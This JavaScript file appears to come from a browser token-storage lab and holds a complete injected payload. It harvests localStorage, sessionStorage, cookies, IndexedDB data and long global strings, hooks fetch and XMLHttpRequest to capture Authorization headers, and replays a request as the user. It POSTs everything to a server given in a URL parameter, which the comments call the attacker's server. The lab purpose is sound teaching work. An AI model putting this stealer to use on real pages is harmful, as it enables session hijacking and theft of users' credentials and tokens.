// The script that the lab injects, the same for every token storage.
// It represents a script that came in through a bug in the page or
// inside a package. The server is the demo's own, on this machine.

const server = new URL(import.meta.url).searchParams.get("to");
const { fetch: plainFetch } = window;
const sent = [];

/** Sends a text to the attacker's server. */
function take(place, text) {
  const body = JSON.stringify({ place, text });
  sent.push(plainFetch(server, { method: "POST", body }));
}

// 1. Read every storage.

for (const [place, storage] of Object.entries({ localStorage, sessionStorage })) {
  for (const [key, value] of Object.entries(storage)) take(`${place} “${key}”`, value);
}

for (const cookie of document.cookie.split("; ").filter(Boolean)) {
  take(`Cookie “${cookie.split("=")[0]}”`, cookie);
}

const finished = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });

async function takeDatabases() {
  for (const { name } of await indexedDB.databases()) {
    const database = await finished(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      const values = await finished(database.transaction(store).objectStore(store).getAll());
      for (const text of textsIn(values)) take(`IndexedDB “${name}”`, text);
    }
    database.close();
  }
}

/** Every text that a script can reach from a value. */
function textsIn(root) {
  const texts = [];
  const seen = new Set();
  const rest = [root];
  while (rest.length > 0 && seen.size < 20_000) {
    const value = rest.pop();
    if (typeof value === "string") texts.push(value);
    if (value === null || typeof value !== "object" || seen.has(value)) continue;
    seen.add(value);
    for (const { value: inner } of Object.values(Object.getOwnPropertyDescriptors(value))) rest.push(inner);
  }
  return texts;
}

// Only long texts: most texts on `window` are names.
for (const text of textsIn(window)) {
  if (text.length > 200) take("A global variable", text);
}

// 2. Wait for the app to send a token that is in no storage.

let haveAsked = false;

window.fetch = async (input, init) => {
  const request = new Request(input, init);
  const header = request.headers.get("authorization");
  if (header) take(`The app’s request to ${new URL(request.url).host}`, header);

  // 3. Repeat the request once, as the user and from the user's browser.
  if (request.method === "GET" && !haveAsked) {
    haveAsked = true;
    const response = await plainFetch(request.clone());
    take(
      `A response of ${new URL(request.url).host} to the script’s own request: ${response.status}`,
      await response.text(),
    );
  }
  return plainFetch(request);
};

const { setRequestHeader } = XMLHttpRequest.prototype;
XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
  if (/^authorization$/i.test(name)) take("The app’s XMLHttpRequest", value);
  return setRequestHeader.call(this, name, value);
};

await takeDatabases();

/** For the lab's page: tells when everything so far has arrived. A real payload would just go on. */
export async function everythingArrived() {
  for (let count = -1; count !== sent.length; ) {
    count = sent.length;
    await Promise.all(sent);
  }
  await plainFetch(server, { method: "POST", body: JSON.stringify({ place: "", text: "" }) });
}
